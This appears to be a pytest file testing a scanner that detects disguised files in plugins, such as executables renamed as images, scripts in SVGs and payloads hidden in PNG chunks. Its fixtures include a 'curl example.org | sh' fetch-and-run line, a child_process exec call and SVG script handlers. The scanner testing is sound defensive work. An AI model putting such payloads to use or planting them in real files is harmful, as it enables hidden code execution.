"""Files that are something else than their names say, and pictures that carry more than a picture."""

import zlib

import pytest

from qirvo.checks.disguised_files import CHECK
from qirvo.checks.subject import Subject
from tests.support.plugins import MemoryContent, plugin_files

ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
EXE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(100)
ZIP = b"PK\x03\x04" + bytes(60)
CODE = b"const c = require('child_process'); c.exec('id');"


def chunk(name: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")


def a_png(*chunks: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + b"".join(chunks) + chunk(b"IEND", b"")


def rules(path: str, content: bytes) -> list[str]:
    return [finding.rule for finding in CHECK.run(Subject(MemoryContent(plugin_files() | {path: content})))]


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("assets/sky.png", ELF, "program"),
        ("assets/sky.jpg", EXE, "program"),
        ("LICENSE.txt", ELF, "program"),
        ("dist/data.json", b"#!/bin/sh\ncurl -s example.org | sh\n", "program"),
        ("assets/sans.woff2", CODE, "program"),
        ("dist/other.js", ELF, "program"),
        ("assets/sky.gif", ZIP, "archive"),
        ("assets/style.css", b"\x1f\x8b\x08" + bytes(40), "archive"),
        ("assets/a.svg", b"<svg><script>go()</script></svg>", "script-in-picture"),
        ("assets/a.svg", b'<svg onload="go()"/>', "script-in-picture"),
        ("assets/a.svg", b'<svg><a href=" javascript:go()">x</a></svg>', "script-in-picture"),
        ("assets/a.svg", '<svg onload="go()"/>'.encode("utf-16"), "script-in-picture"),
        ("assets/a.png", a_png() + CODE, "payload-in-picture"),
        ("assets/a.png", a_png() + ELF, "payload-in-picture"),
        ("assets/a.png", a_png() + ZIP, "payload-in-picture"),
        ("assets/a.png", a_png(chunk(b"tEXt", b"Comment\0" + CODE)), "payload-in-picture"),
        ("assets/a.png", a_png() + bytes(range(1, 200)), "data-after-picture"),
    ],
)
def test_what_is_disguised_is_told(path: str, content: bytes, rule: str):
    assert rules(path, content) == [f"disguised-files/{rule}"]


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("assets/a.png", a_png(chunk(b"tEXt", b"Software\0A drawing program"))),
        ("assets/a.png", a_png() + b"\0\0\n"),
        ("assets/a.png", b"a picture"),
        ("assets/a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/><title>onload</title></svg>'),
        ("assets/a.svg", b"<svg><style>.on{fill:red}</style><g id='once' class='on-top'/></svg>"),
        ("assets/a.svgz", b"\x1f\x8b\x08" + bytes(40)),
        ("dist/cli.js", b"#!/usr/bin/env node\nrequire('./index');\n"),
        ("docs/MZ.txt", b"MZ is how programs of Windows begin."),
        ("assets/sans.woff2", b"wOF2" + bytes(100)),
    ],
)
def test_what_is_what_it_says_is_not_told(path: str, content: bytes):
    assert rules(path, content) == []
